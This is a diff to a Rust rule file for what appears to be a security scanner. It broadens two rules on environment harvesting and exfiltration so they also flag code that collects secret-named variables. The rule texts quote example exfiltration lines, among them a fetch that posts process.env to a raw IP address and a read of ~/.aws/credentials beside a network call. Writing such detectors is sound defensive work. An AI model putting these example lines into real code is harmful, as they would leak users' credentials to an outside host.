@@ -29,15 +29,15 @@ rule!(
     "`open(os.path.expanduser('~/.aws/credentials'))` next to `requests.post(...)`"
 );
 rule!(
-    /// The whole environment serialized next to a network call.
+    /// The whole environment, or its secret-looking variables, collected next to a network call.
     ENV_EXFILTRATION, "env-exfiltration", Exfiltration, High,
-    "Code serializes the whole environment (every token and key in it) in a file that talks to the network; critical with a raw-IP or drop-site endpoint.",
+    "Code serializes the whole environment (every token and key in it), or picks out the variables whose names look like secrets, in a file that talks to the network; critical with a raw-IP or drop-site endpoint.",
     "`fetch('http://203.0.113.9', {body: JSON.stringify(process.env)})`"
 );
 rule!(
-    /// The whole environment serialized.
+    /// The whole environment serialized, or its secret-looking variables collected.
     ENVIRONMENT_HARVEST, "environment-harvest", SensitiveAccess, Low,
-    "Code serializes the whole environment rather than reading the variables it needs.",
+    "Code serializes the whole environment rather than reading the variables it needs (low), or walks it keeping the variables named like secrets (TOKEN, SECRET, KEY…) without redacting them (medium).",
     "`json.dumps(dict(os.environ))`"
 );
 rule!(
